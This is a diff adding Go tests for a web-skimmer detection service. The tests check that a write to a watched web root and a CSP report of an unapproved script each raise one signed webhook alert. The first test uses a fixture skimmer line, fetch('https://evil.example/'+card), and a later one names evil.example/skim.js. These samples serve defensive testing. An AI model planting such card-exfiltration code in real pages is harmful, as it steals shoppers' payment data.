@@ -1,0 +1,141 @@
+package service
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/skimwatch/skimwatch/internal/alert"
+	"github.com/skimwatch/skimwatch/internal/fim"
+	"github.com/skimwatch/skimwatch/internal/monitor"
+)
+
+// watchedServe runs serve on a web root with `watch: true` and a verify
+// interval far beyond the test, so that only the watcher can see a change
+// after the first verify; the config's own signed webhook is the sink.
+func watchedServe(t *testing.T) (root string, recv *webhookReceiver) {
+	t.Helper()
+	dir := t.TempDir()
+	root, base := webRoot(t, dir, "shop")
+	recv = &webhookReceiver{t: t, secret: []byte("a-webhook-secret-of-the-shop")}
+	hook := httptest.NewServer(recv)
+	t.Cleanup(hook.Close)
+	t.Setenv("SKIMWATCH_STORE", "")
+	t.Setenv("TEST_WEBHOOK_SECRET", string(recv.secret))
+	cfg := parse(t, fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\n"+
+		"sites:\n  - name: shop\n    web_roots:\n      - {path: %s, baseline: %s, every: 1h, watch: true}\n"+
+		"alerts:\n  - webhook: {url: %s, secret: {env: TEST_WEBHOOK_SECRET}}\n", dir, root, base, hook.URL))
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	listening := make(chan struct{})
+	go func() {
+		done <- Serve(ctx, cfg, Options{
+			Monitor:   monitor.Options{PollInterval: 50 * time.Millisecond},
+			Alerts:    alert.Options{Window: -1},
+			Listening: func(net.Addr, net.Addr) { close(listening) },
+		})
+	}()
+	select {
+	case <-listening:
+	case err := <-done:
+		t.Fatalf("serve ended before listening: %v", err)
+	}
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("serve: %v", err)
+		}
+	})
+	// Let the first verify and the watcher's start sweep run on the clean
+	// tree, so that what follows is a change under watch.
+	time.Sleep(time.Second)
+	return root, recv
+}
+
+// TestServeWatchAlertsOnAWebRootWriteAndItsRestore: with `watch: true` a
+// write to the web root raises one signed incident and restoring the file
+// one resolution, long before the root's next verify (an hour away).
+func TestServeWatchAlertsOnAWebRootWriteAndItsRestore(t *testing.T) {
+	root, recv := watchedServe(t)
+	js := filepath.Join(root, "checkout.js")
+	original, err := os.ReadFile(js)
+	if err != nil {
+		t.Fatal(err)
+	}
+	steps := []struct {
+		name    string
+		content []byte
+		typ     string
+	}{
+		{"a skimmer written into the web root is one incident naming the file", []byte("pay();fetch('https://evil.example/'+card)\n"), alert.TypeIncident},
+		{"the file restored to its baseline content is one resolution", original, alert.TypeResolved},
+	}
+	for i, st := range steps {
+		t.Run(st.name, func(t *testing.T) {
+			if err := os.WriteFile(js, st.content, 0o644); err != nil {
+				t.Fatal(err)
+			}
+			got := recv.waitFor(t, i+1)
+			a := got[i]
+			if a.Type != st.typ || a.Site != "shop" || len(a.Items) != 1 || a.Items[0].Kind != fim.KindModified {
+				t.Fatalf("alert %d = %+v, want %s on shop about one %s", i, a, st.typ, fim.KindModified)
+			}
+			if a.Items[0].Detector != monitor.DetectorFim {
+				t.Errorf("detector %q, want %q", a.Items[0].Detector, monitor.DetectorFim)
+			}
+		})
+	}
+	time.Sleep(2 * time.Second)
+	if types := recv.types(); len(types) != 2 || recv.bad != 0 {
+		t.Fatalf("the webhook has %v (%d with a bad signature), want one incident and one resolution", types, recv.bad)
+	}
+}
+
+// TestServeAlertsOnANewCSPFindingAtOnce: a browser's report of a new
+// script origin reaches the webhook as one incident within seconds, though
+// the site's evaluation interval is ten minutes away; more reports of the
+// same origin (a growing count in the finding's text) add no alert.
+func TestServeAlertsOnANewCSPFindingAtOnce(t *testing.T) {
+	const key = "shop-site-key-0123456789abcdef"
+	t.Setenv("TEST_COLLECTOR_KEY", key)
+	y := fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\n"+
+		"sites:\n  - name: shop\n    collector_key: {env: TEST_COLLECTOR_KEY}\n    every: 10m\n", t.TempDir())
+	api, recv := hookServe(t, y, Options{Monitor: monitor.Options{PollInterval: 50 * time.Millisecond}})
+	post := func(t *testing.T) {
+		t.Helper()
+		body := `{"csp-report":{"document-uri":"https://shop.example/checkout","effective-directive":"script-src-elem",` +
+			`"blocked-uri":"https://evil.example/skim.js","disposition":"report"}}`
+		req, err := http.NewRequest(http.MethodPost, api+"/r/"+key, strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("Content-Type", "application/csp-report")
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode/100 != 2 {
+			t.Fatalf("report answered %s", resp.Status)
+		}
+	}
+	post(t)
+	got := recv.waitFor(t, 1)
+	if a := got[0]; a.Type != alert.TypeIncident || a.Site != "shop" || !hasItem(a, "csp.unapproved-script") {
+		t.Fatalf("alert = %+v, want an incident on shop with csp.unapproved-script", a)
+	}
+	for range 3 {
+		post(t)
+		time.Sleep(1500 * time.Millisecond) // past a flush each
+	}
+	if types := recv.types(); len(types) != 1 {
+		t.Fatalf("the webhook has %v, want the one incident only", types)
+	}
+}
